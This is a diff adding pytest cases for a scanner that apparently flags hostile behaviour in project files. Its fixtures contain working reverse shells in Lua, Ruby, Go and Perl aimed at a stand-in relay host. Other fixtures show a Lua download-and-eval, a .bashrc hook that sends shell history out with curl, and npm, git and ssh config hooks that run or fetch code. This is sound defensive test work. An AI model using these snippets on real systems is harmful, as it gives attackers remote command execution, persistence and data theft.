@@ -414,3 +414,139 @@ def test_a_persistence_step_handed_to_the_user_does_not_block(tmp_path: Path, md
 def test_the_same_step_run_by_a_script_still_blocks(tmp_path: Path) -> None:
     script = "launchctl bootstrap gui/501 ~/Library/LaunchAgents/x.plist\n"
     assert blocking(tmp_path, {"scripts/run.sh": script}, RUN)
+
+
+# ------------------------------------------------ combinations no reader handled before
+
+REMOTE_COMMANDS = {
+    "lua reads a line and hands it to io.popen": (
+        "t.lua",
+        'local s = require("socket").tcp()\ns:connect("relay.example.invalid", 4444)\nwhile true do\n'
+        '  local cmd = s:receive()\n  local f = io.popen(cmd)\n  s:send(f:read("*a"))\nend\n',
+    ),
+    "ruby gets into IO.popen": (
+        "t.rb",
+        'require "socket"\ns = TCPSocket.new("relay.example.invalid", 443)\nwhile (c = s.gets)\n'
+        "  s.puts IO.popen(c).read\nend\n",
+    ),
+    "go ReadString into sh -c": (
+        "main.go",
+        'package main\nimport ("bufio"; "net"; "os"; "os/exec")\nfunc main() {\n'
+        '\tconn, _ := net.Dial("tcp", os.Getenv("R"))\n\tr := bufio.NewReader(conn)\n\tfor {\n'
+        '\t\tline, _ := r.ReadString(10)\n\t\tout, _ := exec.Command("sh", "-c", line).Output()\n'
+        "\t\tconn.Write(out)\n\t}\n}\n",
+    ),
+    "perl reads the socket into system": (
+        "t.pl",
+        'use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => "relay.example.invalid:443");\n'
+        "while (my $c = <$s>) { system($c); }\n",
+    ),
+}
+
+
+@pytest.mark.parametrize(("name", "code"), REMOTE_COMMANDS.values(), ids=REMOTE_COMMANDS.keys())
+def test_commands_received_from_a_socket_and_run_block(tmp_path: Path, name: str, code: str) -> None:
+    assert "SY-FLOW-006" in blocking(tmp_path, {name: code})
+
+
+@pytest.mark.parametrize(
+    ("name", "code"),
+    [
+        (
+            "main.go",
+            'package main\nimport ("bufio"; "net"; "os/exec")\nfunc main() {\n'
+            '\tconn, _ := net.Dial("tcp", "127.0.0.1:6379")\n\tr := bufio.NewReader(conn)\n'
+            '\tline, _ := r.ReadString(10)\n\t_ = line\n\texec.Command("git", "status").Run()\n}\n',
+        ),
+        (
+            "bot.rb",
+            'require "socket"\ns = TCPSocket.new("irc.libera.chat", 6667)\nwhile (l = s.gets)\n'
+            '  system("notify-send", l) if l.include?("PRIVMSG")\nend\n',
+        ),
+        ("conf.lua", 'local f = io.open("settings.lua")\nlocal chunk = load(f:read("*a"))\nchunk()\n'),
+    ],
+    ids=["local service", "chat bot with a fixed program", "local config chunk"],
+)
+def test_clients_that_run_fixed_programs_do_not_block(tmp_path: Path, name: str, code: str) -> None:
+    assert blocking(tmp_path, {name: code}) == {}
+
+
+def test_lua_evaluating_a_download_blocks(tmp_path: Path) -> None:
+    code = (
+        'local http = require("socket.http")\nlocal body = http.request("https://cdn.example.invalid/p.lua")\n'
+        "load(body)()\n"
+    )
+    assert "SY-FLOW-002" in blocking(tmp_path, {"t.lua": code})
+
+
+def test_a_fetch_written_into_a_start_up_file_through_a_handle_blocks(tmp_path: Path) -> None:
+    code = (
+        "import os\n"
+        'with open(os.path.expanduser("~/.bashrc"), "a") as f:\n'
+        "    f.write('PROMPT_COMMAND=\"history 1 | curl -s -d @- https://h.example.invalid/c\"\\n')\n"
+    )
+    assert "SY-FLOW-003" in blocking(tmp_path, {"scripts/run.py": code})
+
+
+def test_a_path_line_written_into_a_start_up_file_does_not_block(tmp_path: Path) -> None:
+    code = (
+        "import os\n"
+        'with open(os.path.expanduser("~/.bashrc"), "a") as f:\n'
+        "    f.write('export PATH=\"$HOME/.local/bin:$PATH\"\\n')\n"
+    )
+    assert blocking(tmp_path, {"scripts/run.py": code}) == {}
+
+
+@pytest.mark.parametrize(
+    ("script", "blocks"),
+    [
+        ('npm config set node-options "--require /tmp/.n/hook.js"\n', True),
+        ("printf 'node-options=--import ~/.cache/n/x.mjs\\n' >> ~/.npmrc\n", True),
+        ("npm config set node-options --max-old-space-size=4096\n", False),
+    ],
+)
+def test_node_told_by_npm_to_preload_code(tmp_path: Path, script: str, blocks: bool) -> None:
+    assert (
+        bool({"SY-PER-009", "SY-FLOW-003"} & blocking(tmp_path, {"scripts/run.sh": script}, RUN).keys())
+        is blocks
+    )
+
+
+HOOK_SETTINGS = {
+    "python appends script-shell to ~/.npmrc": {
+        "scripts/run.py": (
+            "import os\nwith open(os.path.expanduser('~/.npmrc'), 'a') as f:\n    f.write('script-shell=/tmp/.s/sh\\n')\n"
+        )
+    },
+    "node appends an fsmonitor to ~/.gitconfig": {
+        "scripts/run.js": (
+            "const fs = require('fs'), os = require('os');\n"
+            "fs.appendFileSync(os.homedir() + '/.gitconfig', '[core]\\n\\tfsmonitor = ~/.cache/m.sh\\n');\n"
+        )
+    },
+    "shell adds a fetching ProxyCommand to ~/.ssh/config": {
+        "scripts/run.sh": (
+            "echo 'ProxyCommand sh -c \"curl -s https://k.example.invalid/p | sh; nc %h %p\"' >> ~/.ssh/config\n"
+        )
+    },
+}
+
+
+@pytest.mark.parametrize("files", HOOK_SETTINGS.values(), ids=HOOK_SETTINGS.keys())
+def test_a_setting_that_runs_a_program_written_into_a_tools_config_blocks(
+    tmp_path: Path, files: dict[str, str]
+) -> None:
+    assert "SY-FLOW-003" in blocking(tmp_path, files, RUN)
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "printf 'Host db\\n  ProxyCommand ssh -W %%h:%%p bastion\\n' >> ~/.ssh/config\n",
+        "echo '@acme:registry=https://npm.acme.example' >> ~/.npmrc\n",
+        "printf '[user]\\n\\tname = Demo\\n' >> ~/.gitconfig\n",
+    ],
+    ids=["bastion", "scoped registry", "user name"],
+)
+def test_ordinary_settings_written_into_a_tools_config_do_not_block(tmp_path: Path, script: str) -> None:
+    assert blocking(tmp_path, {"scripts/run.sh": script}, RUN) == {}
